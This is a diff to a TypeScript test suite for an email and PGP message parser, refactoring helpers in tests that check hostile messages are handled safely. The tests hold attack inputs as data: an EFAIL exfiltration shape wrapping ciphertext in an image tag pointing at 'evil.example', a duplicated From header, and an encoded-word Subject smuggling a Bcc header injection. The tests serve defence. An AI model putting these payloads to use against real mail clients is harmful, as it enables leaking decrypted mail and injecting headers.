@@ -12,9 +12,10 @@ import {
   certificateOf,
   DESK_ADDRESS,
   type Desk,
+  encryptedEntity,
   encryptedMail,
-  encryptedParts,
   HEAD,
+  headWith,
   lines,
   makeDesk,
   mixed,
@@ -57,7 +58,7 @@ describeWith(['gpg'], 'a hostile encrypted message', () => {
   const openIt = (raw: string): Promise<OpenedMail> => open(raw, [desk.secret], certificates)
 
   it('cannot get a wrapped ciphertext decrypted (EFAIL, direct exfiltration)', async () => {
-    const inner = `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n${encryptedParts(sealed)}`
+    const inner = encryptedEntity(sealed)
     const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
     const shapes = [
       mixed([html('<img src="http://evil.example/'), inner, html('">')]),
@@ -241,9 +242,7 @@ describeWith(['gpg'], 'a hostile signature', () => {
     expect(twice.outer.from).toBeNull()
     expect(twice.warnings).toContain('repeated-header')
 
-    const two = HEAD.map((field) =>
-      field.startsWith('From') ? 'From: a@x.example, grace@acme.example' : field
-    )
+    const two = headWith('From', 'a@x.example, grace@acme.example')
     const list = await openIt(`${lines(...two)}${signed}\r\n`)
     expect(list.outer.from).toBeNull()
     expect(list.warnings).toContain('repeated-header')
@@ -392,9 +391,7 @@ describe('a hostile structure', () => {
   })
 
   it('cannot write a header through an encoded word', async () => {
-    const head = HEAD.map((field) =>
-      field.startsWith('Subject') ? 'Subject: =?utf-8?Q?foo=0D=0ABcc:_evil@x.example?=' : field
-    )
+    const head = headWith('Subject', '=?utf-8?Q?foo=0D=0ABcc:_evil@x.example?=')
     const opened = await open(lines(...head, '', 'x'), [])
     expect(opened.outer.subject).toBe('foo Bcc: evil@x.example')
   })
